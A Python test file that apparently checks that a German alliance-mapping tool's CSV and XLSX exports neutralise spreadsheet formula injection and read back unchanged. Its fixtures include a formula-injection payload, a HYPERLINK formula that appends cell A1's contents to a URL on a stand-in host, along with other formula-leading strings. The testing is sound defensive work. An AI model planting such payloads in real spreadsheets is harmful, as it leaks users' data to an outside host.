"""No spreadsheet we write runs a formula: every CSV and XLSX writer neutralises hostile text.

The writers are listed here (:data:`WRITERS`); a test reads the package's source for
anything that writes CSV or XLSX, so that a new writer not listed (and not using
:func:`~buendnisatlas.graph.cells.safe_cell`) fails. Each writer is then run on elements
whose names and notes start like formulas, and the result is opened as a spreadsheet
program would: no cell starts with ``=``, ``+``, ``-``, ``@``, tab or CR unless it is a
number, no XLSX cell is a formula. Our own importers read the export back unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from buendnisatlas.api.goals_text import excel_csv
from buendnisatlas.graph.cells import FORMULA_START
from buendnisatlas.graph.model import Actor, Alliance, Region, Relation
from buendnisatlas.graph.regions import read_regions, write_regions
from buendnisatlas.graph.sqlite_store import SqliteStore

from .conftest import CliResult

Cli = Callable[..., CliResult]
# The package's source folders (the layout maps them into ``buendnisatlas``, see pyproject.toml).
SOURCE = Path(__file__).parents[1]
FOLDERS = ("buendnisatlas", "api", "graph", "importers", "visualizations")

# Every function that writes a CSV or XLSX table, by module (relative to the package).
WRITERS = {
    "api/cli/output.py": "emit",  # --csv of every command (metrics, gaps, indicators, compare, history, …)
    "api/goals_text.py": "excel_csv",  # the goals report as CSV (CLI and REST)
    "importers/export.py": "write_csv, write_xlsx",  # export (also --public)
    "graph/regions.py": "write_regions",  # the regions table
}
# Generates the demo's own CSV from code, at development time: no user text reaches it.
NOT_A_DOOR = {"buendnisatlas/demo/_generate.py"}
_WRITES_TABLES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|ExcelWriter\(|Workbook\(|xlsxwriter")

HOSTILE = {
    "angriff": '=HYPERLINK("http://böse.example/?"&A1;"Hier klicken")',
    "plus": "+49 Telefonkette",
    "minus": "-Minusverein e. V.",
    "at": "@Verein für Alle",
    "quote": "'=schon mit Apostroph",
}


def test_every_module_writing_a_spreadsheet_is_a_listed_writer_using_the_one_neutraliser() -> None:
    writing = {
        path.relative_to(SOURCE).as_posix()
        for folder in FOLDERS
        for path in (SOURCE / folder).rglob("*.py")
        if _WRITES_TABLES.search(path.read_text(encoding="utf-8"))
    }
    assert writing - NOT_A_DOOR == set(WRITERS), "a new CSV/XLSX writer: neutralise its cells and list it here"
    for module in WRITERS:
        assert "safe_cell" in (SOURCE / module).read_text(encoding="utf-8"), module


def _unsafe(cell: str) -> bool:
    """A cell a spreadsheet would run: starts like a formula and is no number."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return True
    return False


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]


@pytest.fixture
def hostile(db_path: Path) -> Path:
    with SqliteStore(db_path) as store:
        store.upsert_nodes(
            [
                Alliance(id="pfd", name="PfD Mansfeld-Südharz", area=["15087"], visibility="public"),
                *(
                    Actor(id=i, name=name, sector="civil_society", visibility="public", note="=1+1 intern")
                    for i, name in HOSTILE.items()
                ),
            ]
        )
        store.upsert_relations(Relation(source=i, target="pfd", type="MEMBER_OF", role="-Sprecher") for i in HOSTILE)
        store.add_relation(Relation(source="angriff", target="plus", type="COOPERATES_WITH"))
    return db_path


@pytest.mark.parametrize("command", [["metrics", "pfd"], ["gaps", "pfd"], ["history", "angriff"], ["stats"]])
def test_csv_output_of_commands_runs_no_formula(cli: Cli, hostile: Path, command: list[str]) -> None:
    result = cli(*command, "--csv")
    assert result.code == 0, result.err
    cells = _csv_cells(result.out)
    assert not [c for c in cells if _unsafe(c)]
    if command[0] != "stats":
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'+49") for c in cells) or command[0] == "gaps"


@pytest.mark.parametrize("public", [False, True])
def test_csv_export_runs_no_formula_and_reads_back_as_it_was(
    cli: Cli, hostile: Path, tmp_path: Path, public: bool
) -> None:
    out = tmp_path / "export"
    result = cli("export", str(out), "--format", "csv", *(["--public"] if public else []))
    assert result.code == 0, result.err
    for path in out.glob("*.csv"):
        assert not [c for c in _csv_cells(path.read_text(encoding="utf-8-sig")) if _unsafe(c)], path.name
    elements = (out / "elemente.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in elements and "''=schon mit Apostroph" in elements
    _reads_back(cli, tmp_path, out, public)


@pytest.mark.parametrize("public", [False, True])
def test_xlsx_export_holds_no_formula_cell_and_reads_back_as_it_was(
    cli: Cli, hostile: Path, tmp_path: Path, public: bool
) -> None:
    out = tmp_path / "export.xlsx"
    result = cli("export", str(out), *(["--public"] if public else []))
    assert result.code == 0, result.err
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in values if _unsafe(v)]
    assert HOSTILE["angriff"] not in values and "'" + HOSTILE["angriff"] in values
    _reads_back(cli, tmp_path, out, public)


def _reads_back(cli: Cli, tmp_path: Path, exported: Path, public: bool) -> None:
    """Our importer restores the text a writer quoted: the names are the stored ones."""
    copy = tmp_path / "wieder.db"
    result = cli("--store", f"sqlite:///{copy}", "import", str(exported))
    assert result.code == 0, result.err
    with SqliteStore(copy) as store:
        assert {i: store.get_node(i).name for i in HOSTILE} == HOSTILE
        assert store.get_relation("plus|MEMBER_OF|pfd|").role == "-Sprecher"
        assert store.get_node("angriff").note == (None if public else "=1+1 intern")


def test_goals_csv_runs_no_formula_and_keeps_numbers() -> None:
    text = excel_csv([{"ziel": HOSTILE["angriff"], "ist": -2.5, "soll": 3, "belege": ["=A1", "ok"]}])
    cells = _csv_cells(text)
    assert not [c for c in cells if _unsafe(c)]
    assert "'" + HOSTILE["angriff"] in cells and "-2,5" in cells  # a negative number stays a number


def test_regions_table_runs_no_formula_and_reads_back() -> None:
    regions = [Region(ags="15087", name="-Südharz", level="Kreis"), Region(ags="15", name="Sachsen-Anhalt")]
    text = write_regions(regions)
    assert not [c for c in _csv_cells(text) if _unsafe(c)]
    assert [(r.ags, r.name) for r in read_regions(text)] == [("15087", "-Südharz"), ("15", "Sachsen-Anhalt")]
